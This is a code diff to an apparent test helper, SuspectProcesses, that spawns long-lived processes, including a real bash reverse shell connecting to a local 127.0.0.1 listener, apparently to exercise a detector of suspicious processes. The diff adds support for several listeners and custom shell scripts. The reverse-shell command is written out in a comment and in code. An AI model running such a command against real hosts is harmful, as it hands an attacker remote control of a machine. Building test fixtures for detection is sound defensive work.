@@ -14,7 +14,7 @@ export interface StartOptions {
 export class SuspectProcesses {
   private readonly children: ChildProcess[] = [];
   private readonly sockets: Socket[] = [];
-  private server: Server | undefined;
+  private readonly servers: Server[] = [];
 
   /** Start a long-lived process in its own session; resolves with its pid once it is spawned. */
   start(command: string, args: readonly string[], options: StartOptions = {}): Promise<number> {
@@ -34,22 +34,25 @@ export class SuspectProcesses {
   /**
    * `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` to a listener of its own; resolves with the outer bash's pid once
    * the shell has connected. `; true` keeps the outer bash -c from exec'ing the inner one, so its command line
-   * stays the reverse shell's.
+   * stays the reverse shell's. `script` gives another bash -c text for the listener's port (the same shell
+   * written another way); each call has its own listener.
    */
-  async reverseShell(options: StartOptions = {}): Promise<number> {
+  async reverseShell(options: StartOptions = {}, script = (port: number): string => `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`): Promise<number> {
+    let server: Server | undefined;
     const connected = new Promise<void>((resolve) => {
-      this.server = createServer((socket) => {
+      server = createServer((socket) => {
         this.sockets.push(socket);
         resolve();
       });
+      this.servers.push(server);
     });
     const port = await new Promise<number>((resolve) => {
-      this.server?.listen(0, '127.0.0.1', () => {
-        const address = this.server?.address();
+      server?.listen(0, '127.0.0.1', () => {
+        const address = server?.address();
         resolve(typeof address === 'object' && address !== null ? address.port : 0);
       });
     });
-    const pid = await this.start('/bin/bash', ['-c', `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1; true`], options);
+    const pid = await this.start('/bin/bash', ['-c', script(port)], options);
     await connected;
     return pid;
   }
@@ -57,7 +60,7 @@ export class SuspectProcesses {
   /** Close the listener and kill every process group started (the inner bash of the shell, a shell's sleep). */
   stopAll(): void {
     for (const socket of this.sockets) socket.destroy();
-    this.server?.close();
+    for (const server of this.servers) server.close();
     killGroups(this.children);
   }
 }
